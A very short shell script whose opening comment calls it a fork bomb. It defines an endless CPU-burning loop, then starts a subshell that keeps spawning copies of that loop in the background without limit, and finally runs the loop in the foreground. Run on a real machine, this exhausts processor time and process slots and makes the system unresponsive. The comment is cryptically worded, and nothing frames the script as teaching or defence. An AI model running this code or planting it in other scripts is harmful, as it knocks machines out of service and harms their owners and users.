# A fork bomb of shells that burn. The one that is refused ends; the first one never asks for more than one.
burn() { while :; do :; done; }
(while :; do burn & done)
burn
